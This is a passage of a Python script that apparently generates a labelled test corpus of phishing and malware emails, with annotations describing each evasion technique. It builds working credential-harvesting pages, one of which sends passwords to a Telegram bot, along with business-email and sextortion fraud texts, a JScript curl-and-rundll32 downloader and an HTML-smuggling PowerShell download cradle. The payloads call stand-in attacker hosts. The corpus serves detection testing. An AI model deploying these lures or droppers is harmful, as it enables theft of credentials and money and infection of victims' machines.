          "<br><br><button style='background:#0067b8;color:#fff;border:0;padding:8px 30px'>Sign in</button></form></div></body></html>")
_data = "data:text/html;base64," + base64.b64encode(_inner.encode()).decode()
_att = (f"<html><head><meta http-equiv=\"refresh\" content=\"0; url={_data}\"><title>SWIFT COPY</title></head>"
        f"<body>Loading document... <a href=\"{_data}\">click here</a> if you are not redirected.</body></html>")
_pl = ("Good afternoon,\n\nPlease find attached the SWIFT copy for the transfer of NGN 4,870,000.00 made to Lagos Fresh Foods Ltd "
       "against proforma LFF-PF-2211. Kindly confirm receipt.\n\nRegards,\nTransfers Desk\nZenith Bank Plc\n")
add("swift-copy-html-data-uri", "phishing", "phish", "adaeze", "2025-11-04 14:06:18 +0100",
    ("Zenith Bank Transfers", "transfers@zenith-alerts.com"), "SWIFT Copy: NGN 4,870,000.00 transfer to Lagos Fresh Foods Ltd",
    mixed("p24", T(_pl), attachment("text/html", "SWIFT_COPY_LFF_04112025.htm", _att.encode())),
    "Payment-confirmation lure with an .htm attachment that meta-refreshes into a base64 data: URI holding a Microsoft sign-in form pre-filled with the recipient and posting to a compromised WordPress site.",
    ip="31.222.235.40", helo="mail.zenith-alerts.com", auth=("pass", "none", "none"))

# --- P25 Purchase order as an SVG with an embedded script redirect
_tgt = "https://po-viewer.shahexport-docs.workers.dev/view?id=" + H("p25", n=16)
_svg = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\" height=\"600\">"
        "<rect width=\"800\" height=\"600\" fill=\"#ffffff\"/><text x=\"40\" y=\"60\" font-size=\"24\" fill=\"#333\">PO_SRT-88172.pdf - loading...</text>"
        "<script type=\"text/javascript\"><![CDATA[\nvar _k=\"" + base64.b64encode(_tgt.encode()).decode()[::-1] + "\";\n"
        "var _m=\"anil.kumar@sunrisetextiles.in\";\nwindow.location.href=atob(_k.split('').reverse().join(''))+'#'+btoa(_m);\n]]></script></svg>\n")
_pl = ("Dear Anil ji,\n\nAs discussed, please see the revised PO with updated quantities for the rayon prints. Kindly check and confirm "
       "dispatch date.\n\nThanks & regards,\nRakesh Shah\nShah Exports, Ahmedabad\n+91 98250 41736\n")
add("purchase-order-svg-script", "phishing", "phish", "anil", "2025-08-26 12:31:07 +0530",
    ("Rakesh Shah", "rakesh@shahexport.co.in"), "RE: Purchase Order PO-SRT-88172 – revised quantities",
    mixed("p25", T(_pl), attachment("image/svg+xml", "PO_SRT-88172.svg", _svg.encode())),
    "Purchase-order lure from a lookalike of a trading partner's domain with an SVG 'document' containing a script that reverses and base64-decodes a workers.dev URL and redirects with the recipient's address appended.",
    ip="45.154.98.113", helo="mail.shahexport.co.in")

# --- P26 iCloud storage full: emoji and Cyrillic subject, DoubleClick redirect to netlify
_tgt = f"https://icloud-storage-upgrade.netlify.app/offer?uid={H('p26', n=12)}"
_u = f"https://adclick.g.doubleclick.net/pcs/click?xai=AKAOjs{B64('p26x', n=48)}&sig=Cg0ArKJSzG{B64('p26s', n=22)}&fbs_aeid=%5Bgw_fbsaeid%5D&adurl={_tgt}"
_h = card(hg("iCloud", "o"), "#1d1d1f", hg("Your storage is full", "oa"), [
    "Dana, your iCloud storage is full and your photos, videos and files are no longer being backed up.",
    "As a loyalty reward, you can upgrade to <b>50 GB for just $1.99</b> today. If no action is taken, your photos and videos will be deleted on <b>19 March 2024</b>."],
    ("Upgrade Storage", _u), "Apple Inc. One Apple Park Way, Cupertino, CA 95014")
add("icloud-storage-doubleclick", "phishing", "phish", "dana", "2024-03-14 17:25:33 -0400",
    ("iCloud", "no_reply@icloud-mail-storage.com"), "⚠️ " + hg("Your iCloud storage is full", "oa") + " – photos and videos will be deleted",
    kit("p26", _h), "iCloud 'storage full, photos will be deleted' lure from a lookalike domain, with emoji and Cyrillic letters in the subject, linking through a DoubleClick ad-click redirect to a Netlify card-harvesting page.",
    ip="91.215.85.142", helo="mta2.icloud-mail-storage.com")

# --- P27 Netflix payment: hidden news paragraphs, Adobe Campaign redirect
_tgt = "https://nflx-account-hold.web.app/billing"
_u = f"https://t-info.mail.adobe.com/r/?id=h{H('p27', n=8)},{H('p27b', n=8)},{H('p27c', n=8)}&p1={_tgt}"
_h = card(hg("NETFLIX", "ET"), "#e50914", "Your membership is on hold", [
    "Hi Maricel,", filler("p27a", 2, "none"),
    "We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.",
    filler("p27b", 3, "none")], ("Update Payment", _u), "Questions? Call 1-800-1-441-0179 (PH). Netflix Services Philippines.")
add("netflix-hold-hidden-news-adobe", "phishing", "phish", "maricel", "2024-07-26 08:52:19 +0800",
    (hg("Netflix", "e"), "info@nflx-billing-help.com"), "Your Netflix membership is on hold – update payment",
    kit("p27", _h), "Netflix payment-failure lure from a lookalike domain with a Cyrillic е in the brand, five display:none news paragraphs interleaved with the real text, and a link through an Adobe Campaign tracking redirect to a web.app page.",
    ip="141.98.10.71", helo="smtp.nflx-billing-help.com")

# --- P28 Amazon order callback drawn as an image; the text part is unrelated news
_png = png_card([("amazon", 30, "#232f3e"), ("Order Confirmation", 20, "#111111"), ("Apple iPhone 15 Pro Max 256GB - Natural Titanium", 15, "#333333"),
                 ("Order #112-4829107-5538261      Total: $1,299.00", 15, "#333333"), ("Ships to: Anchorage, AK 99501", 15, "#333333"),
                 ("Did not place this order? Call Amazon Support:", 16, "#b12704"), ("+1 (888) 720-4419", 26, "#b12704"),
                 ("Cancellation is only possible within 24 hours.", 14, "#555555")])
_h = ('<html><body style="margin:0;background:#fff"><div align="center"><img src="cid:ord5538261@amz" width="600" height="380" alt=""></div></body></html>')
add("amazon-order-callback-image", "phishing", "phish", "dana", "2025-10-08 19:11:46 -0400",
    ("Amazon Order Desk", "amz.orderdesk.us@gmail.com"),
    'Your Amazon.com order #112-4829107-5538261 of "Apple iPhone 15 Pro Max" has shipped',
    alt("p28", T("\n\n".join(NEWS[3:7]) + "\n"), related("p28", Hh(_h), Leaf("image/png", _png, "base64", '; name="order.png"', 'inline; filename="order.png"', ["Content-ID: <ord5538261@amz>"]), style="gm"), "gm"),
    "Amazon order-confirmation callback scam from Gmail where the order, amount and phone number exist only inside an inline PNG; the text part is unrelated news paragraphs to look benign.",
    **GM(4, "p28"))

# --- P29 Dart Charge toll penalty: percent-encoded host name
_u = f"https://{pct_all('dartcharge-gov-uk.info')}/pcn/pay?vrm=&ref=DC{H('p29', n=8).upper()}"
_h = card("GOV.UK &middot; Dart Charge", "#0b0c0c", "Unpaid Dartford Crossing charge", [
    "Our records show an unpaid crossing of the Dartford Crossing on 2 April 2025 for a vehicle registered to you.",
    "To avoid a Penalty Charge Notice of &pound;70, pay the outstanding <b>&pound;2.50</b> today.", "Reference: DC-2025-0402-38817"],
    ("Pay now", _u), "Dart Charge is operated on behalf of National Highways.")
add("dartcharge-pct-encoded-host", "phishing", "phish", "tom", "2025-04-04 12:02:55 +0100",
    ("Dart Charge", "notices@dartcharge-payments.co"), "Dart Charge: unpaid crossing – Penalty Charge Notice will be issued",
    kit("p29", _h), "UK Dart Charge toll-penalty lure from a lookalike domain whose link host is written entirely in %-escapes, which browsers decode but naive URL parsers do not.",
    ip="77.91.124.55", helo="mail.dartcharge-payments.co", auth=("pass", "pass", "bestguesspass"))

# --- P30 E-ZPass unpaid toll: hex IP host, zero-width inside brand, emoji subject
_ip = "91.212.161.30"
_u = f"http://0x{dec_ip(_ip):08x}/ezpass/pay?inv=NY{H('p30', n=9).upper()}"
_h = card(zw("E-ZPass New York", "\u200c", 2), "#6b2c91", zw("Final notice: unpaid toll balance", "\u200c", 3), [
    zw("Our records indicate your vehicle has an outstanding toll of $6.99. To avoid a $50 late fee and possible suspension of your registration, please settle the balance by March 28.", "\u200c", 3)],
    ("Pay Toll Balance", _u), "E-ZPass New York Customer Service Center")
add("ezpass-toll-hex-ip", "phishing", "phish", "kelly", "2025-03-25 07:48:10 -0400",
    ("E-ZPass New York", "ezpass@nytolls-services.com"), "🚗 " + zw("E-ZPass", "\u200b", 3) + " Final Notice: Unpaid toll balance $6.99",
    kit("p30", _h), "E-ZPass unpaid-toll lure from a lookalike domain with zero-width non-joiners inside the words and a zero-width space in the subject brand, linking to a host written as a hexadecimal IP number.",
    ip="91.212.161.30", helo="mail.nytolls-services.com")

# --- P32 India Post: opaque Baidu link redirect, entity-encoded brand, Cyrillic subject
_u = f"http://www.baidu.com/link?url={B64('p32', n=86)}&wd=&eqid={H('p32e', n=32)}"
_h = card(ent("India Post"), "#c8102e", ent("Your parcel is held at the delivery hub"), [
    "Dear Customer, your Speed Post consignment <b>EN482917355IN</b> arrived at Chennai NSH but could not be delivered because the address is incomplete.",
    "Please update your address and pay the re-delivery charge of <b>Rs. 25</b> within 48 hours, otherwise the article will be returned to sender."],
    ("Update Address", _u), ent("Department of Posts, Ministry of Communications, Government of India"))
add("indiapost-held-baidu-redirect", "phishing", "phish", "priya", "2024-12-17 10:26:44 +0530",
    ("India Post", "speedpost@indiapost-tracking.co"), hg("India Post", "o") + ": parcel EN482917355IN held at hub – address incomplete",
    kit("p32", _h), "India Post re-delivery fee scam from a lookalike domain with the brand written as HTML entities and a Cyrillic о in the subject, linking through an opaque Baidu link redirect that hides the destination.",
    ip="103.89.90.12", helo="mail.indiapost-tracking.co", auth=("pass", "pass", "none"))

# --- P33 DHL: HTML attachment written with unescape(), posting credentials to a Telegram bot, from a compromised school mailbox
_page = ("<html><head><title>DHL | Shipping Documents</title></head><body style='font-family:Arial;background:#ffcc00'>"
         "<div style='width:380px;margin:70px auto;background:#fff;padding:30px'><img src='https://www.dhl.com/img/meta/dhl-logo.png' width='140'>"
         "<p>Sign in with your email account to view the shipping documents for AWB 6094481732.</p>"
         "<input id='e' value='funmi.adeyemi@yahoo.com' style='width:100%'><br><br><input id='p' type='password' placeholder='Email password' style='width:100%'>"
         "<br><br><button onclick=\"fetch('https://api.telegram.org/bot7418830265:AAH3kQzV9xPq2mLw8TnR5cYbE1uJ6dFs0gK/sendMessage?chat_id=-1002214477310&text='"
         "+encodeURIComponent(document.getElementById('e').value+' | '+document.getElementById('p').value)).then(function(){location='https://www.dhl.com/ng-en/home.html'})\" "
         "style='background:#d40511;color:#fff;border:0;padding:9px 30px'>View Documents</button></div></body></html>")
_att = f"<script>document.write(unescape('{pct_all(_page)}'));</script>\n"
add("dhl-awb-html-telegram-bot", "phishing", "phish", "funmi", "2024-05-29 09:41:27 +0100",
    ("DHL Express", "info@greenfieldacademy.edu.ng"), "DHL Shipment Notification: AWB 6094481732 – customs documents",
    mixed("p33", T("Dear Customer,\n\nYour shipment AWB 6094481732 is on hold at Lagos customs. Open the attached documents to confirm the delivery details.\n\nDHL Express Nigeria\n"),
          attachment("text/html", "DHL_AWB_6094481732.html", _att.encode())),
    "DHL customs-documents lure sent from a compromised Nigerian school mailbox (SPF and DKIM pass) with an HTML attachment whose whole page is %-escaped inside document.write(unescape()) and which posts the typed password to a Telegram bot.",
    ip="198.54.116.42", helo="server178.web-hosting.com", mailfrom="info@greenfieldacademy.edu.ng", sel="default")

# --- P34 Meta copyright notice sent through Salesforce (genuine salesforce.com), fullwidth brand
_u = "https://business-help-appeal-case.vercel.app/appeal/5521844903"
_h = card(fw("Meta"), "#0866ff", "Your Page has been reported for copyright infringement", [
    f"Hi Brightline HVAC, we received a report that content on your {fw('Facebook')} Page infringes someone else's intellectual property rights.",
    "If you believe this is a mistake, you can submit an appeal within <b>24 hours</b>. Pages that do not appeal will be permanently removed and the linked ad account disabled.",
    "Case number: #5521844903"], ("Submit Appeal", _u), "&copy; Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025")
add("meta-copyright-via-salesforce", "phishing", "phish", "mike", "2024-07-17 06:08:52 -0700",
    ("Meta for Business", "noreply@salesforce.com"), fw("Meta") + " Business: Your page has been reported for copyright infringement (Case #5521844903)",
    kit("p34", _h, "jm"), "Meta copyright-takedown lure sent through Salesforce's mail service so it arrives from salesforce.com with SPF, DKIM and DMARC passing, with the brand in fullwidth letters and an appeal link to a vercel.app page.",
    ip="136.146.208.27", helo="smtp07-ia4-sp3.mta.salesforce.com", mailfrom=f"bounce+{H('p34b', n=12)}@bnc.salesforce.com", sel="sf112018", p="reject")

# --- P36 Microsoft 'unusual sign-in' with a mailto-only 'report the user' link (Outlook.com freemail)
_mt = "mailto:report.msaccount.team@gmail.com?subject=Report%20The%20User&body=Report%20The%20User"
_h = card("Microsoft", "#2672ec", "Unusual sign-in activity", [
    "We detected something unusual about a recent sign-in to the Microsoft account to******@outlook.com.",
    "<b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 103.225.77.255<br>Date: 08/02/2024 3:17 AM (GMT)<br>Platform: Windows 10<br>Browser: Firefox",
    f'Please go to your recent activity page to let us know whether or not this was you. If this wasn\'t you, we\'ll help you secure your account. If this was you, we\'ll trust similar activity in the future.',
    f'<a href="{_mt}" style="color:#fff;background:#2672ec;padding:8px 20px;text-decoration:none">Report The User</a>',
    f'To opt out or change where you receive security notifications, <a href="{_mt}">click here</a>.'], None, "Thanks,<br>The Microsoft account team")
add("microsoft-signin-mailto-only", "phishing", "phish", "tom", "2024-08-02 04:22:31 +0100",
    (hg("Microsoft account team", "o", greek=True), "msaccount.alerts.noreply@outlook.com"), hg("Microsoft account unusual sign-in activity", "o", greek=True),
    kit("p36", _h, "ol"), "Copy of Microsoft's 'unusual sign-in activity' mail from an Outlook.com freemail account with Greek omicrons in the display name and subject, whose only links are mailto: addresses at Gmail, to start a conversation or harvest replies.",
    **OLF("p36"))

# --- P37 Google storage: nested redirects Google -> Bing -> r2.dev
_final = f"https://pub-{H('p37', n=32)}.r2.dev/g1/storage.html"
_bing = f"https://www.bing.com/ck/a?!&&p={H('p37b', n=48)}&ptn=3&ver=2&hsh=4&u=a1{b64u(_final)}&ntb=1"
_u = f"https://www.google.com/url?sa=t&rct=j&q=&esrc=s&url={pct(_bing)}&usg=AOvVaw{B64('p37u', n=22)}"
_h = card("Google Photos", "#4285f4", "Your account storage is full 📸", [
    "Chinedu, you've used 15 GB of 15 GB. Your photos and videos are no longer being backed up and will be removed from Google Photos after 7 days.",
    "Get 100 GB for a one-time payment of &#8358;1,500 to keep your memories safe."], ("Keep my photos", _u), "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA")
add("google-storage-nested-redirects", "phishing", "phish", "chinedu", "2025-09-15 21:03:26 +0100",
    ("Google Photos", "storage-alerts@cloudphotos-notice.com"), "Your Google account storage is full – photos scheduled for deletion 📸",
    kit("p37", _h), "Google storage-full card-harvesting lure from a lookalike domain whose link is nested redirects: a Google url redirect wrapping a Bing click redirect whose base64 parameter points to r2.dev.",
    ip="46.246.98.17", helo="mx.cloudphotos-notice.com")

# --- P38 CEO gift cards: Gmail with the real director's address inside the display name, Reply-To to another Gmail
_pl = ("Anil,\n\nAre you at your desk? I need you to handle something for me discreetly. I am in a meeting with the buyers from Dubai "
       "and cannot take calls.\n\nI need 5 Google Play gift cards of Rs. 10,000 each for the client team, it's a surprise for their "
       "Diwali gifting. Buy them from any store nearby or online, scratch the back and send me clear pictures of the codes here. "
       "I will reimburse you today itself.\n\nLet me know how soon you can do it.\n\nRajesh\nSent from my iPhone\n")
add("ceo-giftcard-display-address", "phishing", "phish", "anil", "2025-10-16 11:52:08 +0530",
    ("Rajesh Mehta (rajesh.mehta@sunrisetextiles.in)", "rajeshmehta.md.office@gmail.com"), "Are you at your desk?",
    T(_pl), "Gift-card CEO fraud from Gmail whose display name contains the managing director's real company address, with Reply-To diverted to a second Gmail account and no link at all.",
    reply_to=("Rajesh Mehta", "rmehta.sunrise.md@gmail.com"), **GM(5, "p38"))

# --- P39 Payroll diversion from a lookalike domain written with a capital I for l
_pl = ("Hi Mike,\n\nI switched banks last week. How do I update my direct deposit before the next payroll? I'd like the change to take "
       "effect for the 15th if possible. Let me know what info you need from me.\n\nThanks,\nJason\n\nSent from my iPhone\n")
add("payroll-diversion-capital-i", "phishing", "phish", "mike", "2025-02-06 07:14:49 -0500",
    ("Jason Miller", "jason.miller@brightIinehvac.com"), "Direct deposit update",
    T(_pl), "Payroll-diversion BEC from a lookalike of the company's own domain written with a capital I in place of the l (brightIinehvac.com), passing its own SPF/DKIM/DMARC, plain text with no link.",
    ip="23.95.183.204", helo="mail.brightiinehvac.com", d="brightiinehvac.com", extra=["X-Mailer: iPhone Mail (21D61)"])

# --- P40 Supplier bank-detail change in a hijacked thread from a hyphenated lookalike, PDF letter
_q = ("From: Sophie Hale <sophie@harbourlanebakery.co.uk>\nSent: 07 October 2025 16:02\nTo: Daniel Whitcombe <daniel.whitcombe@millbrookflour.co.uk>\n"
      "Subject: RE: Invoice MF-22817 / MF-22840 - statement October\n\nHi Daniel,\n\nThanks, both invoices are approved and will go in Friday's payment run.\n\nSophie\n")
_pl = ("Hi Sophie,\n\nThank you. Please note our bank details have changed following our move to Barclays this month. The old Lloyds "
       "account is being closed, so please make Friday's payment and all future payments to the new account in the attached letter.\n\n"
       "Could you confirm once the details are updated on your side?\n\nKind regards,\nDaniel Whitcombe\nCredit Controller\nMillbrook Flour Mills Ltd\n\n" + _q)
_pdf = files.pdf(["MILLBROOK FLOUR MILLS LTD", "Unit 4, Avonside Trading Estate, Bristol BS2 0TZ", "", "NOTIFICATION OF CHANGE OF BANK DETAILS", "",
                  "With effect from 1 October 2025 please remit all payments to:", "Bank: Barclays Bank UK PLC", "Account name: Millbrook Flour Mills",
                  "Sort code: 20-45-77   Account number: 83316502", "", "Authorised: D. Whitcombe, Credit Control"], title="Bank change letter")
_h = "<html><body><div style='font-family:Calibri,sans-serif;font-size:11pt'>" + _pl.replace("\n", "<br>\n") + "</div></body></html>"
add("supplier-bank-change-thread-hijack", "phishing", "phish", "sophie", "2025-10-08 09:37:15 +0100",
    ("Daniel Whitcombe <daniel.whitcombe@millbrookflour.co.uk>", "daniel.whitcombe@millbrook-flour.co.uk"), "RE: Invoice MF-22817 / MF-22840 - statement October",
    mixed("p40", alt("p40", _pl, _h, "ol"), attachment("application/pdf", "Millbrook_Bank_Details_Change.pdf", _pdf), style="ol"),
    "Bank-detail-change fraud continuing a real invoice thread from a hyphenated lookalike of the supplier's domain (own SPF/DKIM pass) with the real supplier address inside the display name, quoting the victim's previous reply and attaching a 'change of bank details' letter.",
    ip="185.132.53.61", helo="mail.millbrook-flour.co.uk",
    extra=["In-Reply-To: <LO2P265MB4471E2D1A0C9B3F8E11D2C4FA8A2@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM>",
           "References: <LO2P265MB4471E2D1A0C9B3F8E11D2C4FA8A2@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM>", "X-Mailer: Microsoft Outlook 16.0"])

# --- P41 CEO urgent transfer from an IDN homograph of the company domain (Cyrillic о)
_idn = "lagosfreshfооds.com".encode("idna").decode()
_pl = ("Adaeze,\n\nI need you to process an urgent transfer today to a new supplier for the Ikeja cold room project. Amount is "
       "NGN 7,450,000. I will send the account details once you confirm you can treat it before 2pm.\n\nI am in a board meeting "
       "and can't take calls, just reply here.\n\nAdewale\nSent from my iPhone\n")
add("ceo-transfer-idn-homograph", "phishing", "phish", "adaeze", "2025-06-24 10:48:33 +0100",
    ("Adewale Bello", f"adewale.bello@{_idn}"), "Urgent",
    T(_pl), f"CEO-fraud wire request from an internationalised lookalike domain ({_idn}, 'lagosfreshfооds.com' with Cyrillic о) that passes its own authentication, plain text and no link.",
    ip="195.133.40.16", helo=f"mail.{_idn}", extra=["X-Mailer: iPhone Mail (22F76)"])

# --- P42 Sextortion spoofing the victim's own Gmail address, zero-width inside the trigger words
_pl = zw("Hello Jerome Dela Cruz,\n\nI know that 0917-xxx-4482 is your phone number and I have been watching you for some time. "
         "I hacked your device through a malicious link you opened and installed software that records your screen and camera. "
         "I recorded a video of you while you were on adult websites.\n\nSend $1,450 in Bitcoin to this address: ", "\u200b", 3)
_pl += "bc1qy8m4zk2r7dq0s9lx3n5pt6wa2hc8ev4jg0f7u3\n\n" + zw(
    "You have 48 hours. If I do not receive the payment, the video will be sent to all your contacts and posted online. "
    "Do not reply, this email was sent from your own account. Do not go to the police.\n", "\u200b", 3)
add("sextortion-self-spoof", "phishing", "phish", "jerome", "2024-10-21 02:33:09 +0700",
    ("Jerome Dela Cruz", "jerome.delacruz@gmail.com"), hg("Jerome Dela Cruz, your privacy is at risk", "ea") + " 🔒",
    T(_pl), "Sextortion demand for Bitcoin spoofing the victim's own Gmail address (SPF softfail, no DKIM, DMARC fail under Gmail's p=none), with zero-width spaces inside every long word and Cyrillic letters in the subject.",
    ip="113.161.84.203", helo="static.vnpt.vn", rdns="static.vnpt.vn", auth=("softfail", "none", "fail"), d="gmail.com", p="none")

# --- P43 Lloyds new payee: @ userinfo URL with the real bank's host before the @
_u = f"https://www.lloydsbank.com%2Fbusiness%2Fcancel-payee@185.234.72.19/lbg/cancel/?ref={H('p43', n=10)}"
_h = card("Lloyds Bank", "#006a4d", "New payee added", [
    "A new payee <b>J CARTER</b> (sort code 04-00-75) was added to your Business Current Account ending 7713 at 08:14 today.",
    "If you did not make this change, cancel it immediately using the link below:",
    f'<a href="{_u}">https://www.lloydsbank.com/business/cancel-payee</a>'], None, "Lloyds Bank plc. Registered Office: 25 Gresham Street, London EC2V 7HN.")
add("lloyds-payee-userinfo-url", "phishing", "phish", "sophie", "2024-06-26 08:29:57 +0100",
    ("Lloyds Bank", "alerts@lloydsbank-notify-secure.com"), "New payee added to your account – was this you?",
    kit("p43", _h), "Lloyds Bank 'new payee' lure from a lookalike domain whose link text shows lloydsbank.com while the href puts www.lloydsbank.com%2F... in the userinfo before an @, so the real host is a bare IP.",
    ip="185.234.72.19", helo="mail.lloydsbank-notify-secure.com", auth=("pass", "none", "bestguesspass"))

# --- P44 Chase card locked: QR code drawn as an HTML table, no clickable link
_h = card("CHASE", "#117aca", "Your debit card has been temporarily locked", [
    "We noticed a suspicious transaction of $842.19 at BESTBUY.COM on your card ending in 5521 and locked the card to protect you.",
    "To unlock it, scan the code below with your phone camera and confirm your identity.",
    qr_table(f"https://chase-unlock.mobile-verify.cc/m/?c={H('p44', n=14)}"), "Reference: CH-77120-LK"], None,
    "JPMorgan Chase Bank, N.A. Member FDIC.")
add("chase-locked-qr-table", "phishing", "phish", "kelly", "2025-05-13 16:20:04 -0400",
    ("Chase Card Services", "no.reply.alerts@chase-cardservice.com"), "Your Chase debit card has been temporarily locked",
    kit("p44", _h), "Chase card-lock quishing mail from a lookalike domain whose QR code is drawn as a table of black and white cells (no image, no clickable link) pointing to a .cc phishing page.",
    ip="89.185.85.172", helo="mail.chase-cardservice.com")

# --- P45 HDFC reward points: QR code inside a PDF attachment
_pdf = pdf_qr(["HDFC BANK - REWARD POINTS STATEMENT", "", "Dear Customer,", "8,450 Reward Points on your HDFC Bank Credit Card expire today.",
               "Redeem them now for cash credit of Rs. 8,450 to your card account.", "Scan the QR code with your phone to redeem."],
              f"https://hdfc-rewards-redeem.in-net.co/r/?c={H('p45', n=12)}", "Reward Points Statement")
add("hdfc-rewards-pdf-qr", "phishing", "phish", "priya", "2025-03-28 09:12:40 +0530",
    ("HDFC Bank Rewards", "rewards@hdfcbank-points.in"), "Your 8,450 HDFC Bank Reward Points expire today – redeem now",
    mixed("p45", T("Dear Customer,\n\nPlease find attached your reward points statement. Points not redeemed today will lapse.\n\nRegards,\nHDFC Bank Rewards\n"),
          attachment("application/pdf", "HDFC_RewardPoints_Statement.pdf", _pdf)),
    "HDFC credit-card reward-points lure from a lookalike domain whose only link is a QR code image inside the attached PDF.",
    ip="45.139.122.88", helo="smtp.hdfcbank-points.in")

# --- P48 Google Forms receipt abused: genuine google.com mail carrying a callback number, Cyrillic form title
_title = hg("Order Confirmation - BTC Purchase #44810", "oe")
_h = card("Google Forms", "#673ab7", f"Thanks for filling out {_title}", [
    "Here's what was received.",
    f"<b>{_title}</b><br>Your account has been charged $1,948.00 for 0.0311 BTC. If you did not authorise this purchase, call our billing desk at +1 (808) 215-7390 to cancel and get a refund.",
    "Email *<br>kelly.ortega@yahoo.com"], ("View form", f"https://docs.google.com/forms/d/e/1FAIpQLS{B64('p48', n=50)}/viewform?usp=mail_form_link"),
    "Create your own Google Form. Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043")
add("google-forms-receipt-callback", "phishing", "phish", "kelly", "2025-01-09 12:44:21 -0800",
    ("Google Forms", "forms-receipts-noreply@google.com"), f"Thanks for filling out {_title}",
    kit("p48", _h, "gm"), "Callback scam delivered as a genuine Google Forms response receipt (google.com passes everything): the form title and text, with Cyrillic letters, claim a Bitcoin purchase and give a phone number to call.",
    ip="209.85.220.69", helo="mail-sor-f69.google.com", sel="20230601", p="reject")

# --- P49 Microsoft 365 purchase mail from microsoft.com with the callback number injected as the organisation name
_org = "Microsoft Billing Support +44 20 3966 1053"
_h = card("Microsoft", "#0067b8", "Thank you for your purchase", [
    f"Hello {_org},", "Your order for <b>Microsoft 365 E5 (no Teams)</b> &times; 15 licences has been processed. Total charged: <b>&pound;5,240.40</b>.",
    f"Organisation: {_org}<br>Order number: 7719-4420-3381", "You can manage your subscription in the Microsoft 365 admin center."],
    ("Go to the admin center", "https://admin.microsoft.com/Adminportal/Home#/subscriptions"), "Microsoft Ireland Operations Ltd, One Microsoft Place, South County Business Park, Leopardstown, Dublin 18")
add("m365-tenant-name-callback", "phishing", "phish", "tom", "2025-07-08 13:31:05 +0000",
    ("Microsoft", "microsoft-noreply@microsoft.com"), "Your Microsoft order has been processed",
    kit("p49", _h, "ol"), "Callback scam sent through Microsoft's own billing notifications (microsoft.com passes everything): the attacker's trial tenant is named 'Microsoft Billing Support' plus a UK phone number, which appears in the greeting and organisation fields.",
    ip="52.101.73.14", helo="DUZPR83CU001.outbound.protection.outlook.com", sel="s1024-meo", p="reject")

# ------------------------------------------------------------ malware (5)

# --- M1 Past-due invoice ZIP holding an obfuscated JScript with a double extension
_js = ("var _0x3f=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x72\\x75\\x6e','" + "".join(f"\\x{ord(c):02x}" for c in "https://cdn-ferguson-hvacsupply.com/inv/0311.dat") + "'];\n"
       "function _0x1a(i){return _0x3f[i];}\nvar s=new ActiveXObject(_0x1a(0));\n"
       "s[_0x1a(1)]('cmd /c curl -s '+_0x1a(2)+' -o %TEMP%\\\\i.dat & rundll32 %TEMP%\\\\i.dat,Start',0,false);\n")
add("invoice-zip-js-double-extension", "malware", "phish", "mike", "2024-04-09 10:03:31 -0500",
    ("Accounts Receivable", "ar@ferguson-hvacsupply.com"), zw("Past due invoice", "\u200b", 4) + " 2024-0311 – second notice",
    mixed("m1", T("Hello,\n\nOur records show invoice 2024-0311 for $2,846.12 is now 30 days past due. The invoice copy is attached, please remit at your earliest convenience.\n\nThank you,\nAccounts Receivable\n"),
          attachment("application/zip", "Invoice_2024-0311.zip", files.zip_archive([("Invoice_2024-0311.pdf.js", _js.encode())]))),
    "Past-due invoice from a lookalike of an HVAC supplier with a zero-width space in the subject, carrying a ZIP whose 'Invoice_2024-0311.pdf.js' is a hex-escaped JScript downloader run by Windows Script Host.",
    ip="104.168.46.219", helo="mail.ferguson-hvacsupply.com")

# --- M2 HTML smuggling: a reversed base64 ZIP (with a LNK) rebuilt and downloaded by the attachment's script
_lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                          "-w h -nop -c \"$u='https://cdn-update.hlb-orders.top/s/o.ps1';iex(New-Object Net.WebClient).DownloadString($u)\"")
_zip = base64.b64encode(files.zip_archive([("Order_HLB-20251.pdf.lnk", _lnk)])).decode()[::-1]
_att = ("<html><head><title>Order_HLB-20251</title></head><body style='font-family:Segoe UI'><p>Preparing your document, please wait...</p><script>\n"
        f"var d=\"{_zip}\";\nvar b=atob(d.split('').reverse().join(''));var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){{a[i]=b.charCodeAt(i);}}\n"
        "var f=new Blob([a],{type:'application/octet-stream'});var l=document.createElement('a');l.href=URL.createObjectURL(f);"
        "l.download='Order_HLB-20251.zip';document.body.appendChild(l);l.click();\n</script></body></html>")
add("html-smuggling-zip-lnk", "malware", "phish", "sophie", "2025-09-02 14:55:12 +0100",
    ("Avon Catering Supplies", "orders@avoncatering-supplies.co.uk"), "New wholesale order #HLB-20251 – please confirm",
    mixed("m2", T("Hi,\n\nPlease find our new wholesale order attached (open in browser). Kindly confirm availability and delivery date.\n\nMany thanks,\nLaura\nAvon Catering Supplies\n"),
          attachment("text/html", "Order_HLB-20251.html", _att.encode())),
    "HTML-smuggling dropper: the attached page rebuilds a ZIP from a reversed base64 string and downloads it; the ZIP holds a .pdf.lnk that starts hidden PowerShell to fetch a script.",
    ip="92.118.112.57", helo="mail.avoncatering-supplies.co.uk")

# --- M3 Disc image with a LNK and a DLL
_iso = files.iso_image([("Shipping_Documents_AWB9932184410.pdf.lnk",
                         files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", "msvcp140_app.dll,DllRegisterServer")),
                        ("msvcp140_app.dll", files.pe_stub())], "DHL_DOCS")
add("dhl-docs-iso-lnk-dll", "malware", "phish", "anil", "2024-08-13 15:17:26 +0530",
    ("DHL Express India", "shipment@dhl-docs-in.com"), "DHL: Original shipping documents for AWB 9932184410",
    mixed("m3", T("Dear Customer,\n\nPlease find attached the original shipping documents (invoice, packing list, BL) for AWB 9932184410. "
                  "Kindly check and confirm to release the consignment from Nhava Sheva.\n\nRegards,\nDHL Express India Pvt Ltd\n"),
          attachment("application/x-iso9660-image", "AWB9932184410_Documents.iso", _iso)),
